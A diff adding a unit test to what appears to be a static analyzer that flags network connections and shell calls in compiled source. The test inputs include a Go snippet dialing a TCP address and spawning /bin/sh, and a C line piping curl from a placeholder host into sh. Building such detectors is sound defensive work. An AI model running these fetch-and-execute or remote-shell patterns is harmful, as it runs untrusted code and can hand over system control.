@@ -358,3 +358,15 @@ def test_agent_code_with_invalid_escapes_warns_nothing() -> None:
         facts = analyze_python('import os\nos.system("grep \\d+ /var/log/x \\e")')
     assert not caught
     assert any(f.kind == "shell" and f.api == "os.system" for f in facts)
+
+
+def test_compiled_source_tokens_give_host_port_literals_and_shell_strings() -> None:
+    go = 'c, _ := net.Dial("tcp", "192.0.2.8:7001")\nexec.Command("/bin/sh")\n'
+    facts = analyze_tokens(go, "compiled")
+    assert [(f.host, f.port) for f in facts if f.kind == "connect"] == [("192.0.2.8", 7001)]
+    c_src = 'int main(void) { system("curl -s http://203.0.113.4/x | sh"); }'
+    assert [f.text for f in analyze_tokens(c_src, "compiled") if f.kind == "shell"] == [
+        "curl -s http://203.0.113.4/x | sh"]
+    # a version string or a format is not an address
+    assert not [f for f in analyze_tokens('fmt.Printf("v%d.%d", 1, 2)', "compiled")
+                if f.kind == "connect"]
